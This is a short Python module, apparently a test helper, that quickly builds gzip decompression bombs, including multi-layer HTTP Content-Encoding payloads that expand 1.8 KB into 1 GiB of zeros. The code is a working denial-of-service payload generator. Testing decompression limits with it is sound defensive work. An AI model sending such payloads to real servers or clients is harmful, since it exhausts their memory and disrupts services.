"""Compression bombs, built in well under a second.

`gzip_of_zeros(n_mib)` is a valid gzip stream of `n_mib` MiB of zeros, made without
compressing them: a raw deflate block for one MiB of zeros, ended with a full flush (so it is
byte-aligned and independent of what came before), repeated `n_mib` times, then the final
block and the gzip trailer. `layered(n_mib, layers)` wraps that in more gzip layers
(`Content-Encoding: gzip, gzip`): 1 GiB of zeros in two layers is 1.8 KB on the wire.
"""

from __future__ import annotations

import functools
import struct
import zlib

_MIB = 1024 * 1024
_GZIP_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"


@functools.cache
def gzip_of_zeros(n_mib: int) -> bytes:
    zeros = bytes(_MIB)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
    final = deflate.flush()
    crc = 0
    for _ in range(n_mib):
        crc = zlib.crc32(zeros, crc)
    trailer = struct.pack("<II", crc, (n_mib * _MIB) & 0xFFFFFFFF)
    return _GZIP_HEADER + block * n_mib + final + trailer


@functools.cache
def layered(n_mib: int, layers: int) -> bytes:
    data = gzip_of_zeros(n_mib)
    for _ in range(layers - 1):
        packer = zlib.compressobj(9, zlib.DEFLATED, 31)
        data = packer.compress(data) + packer.flush()
    return data
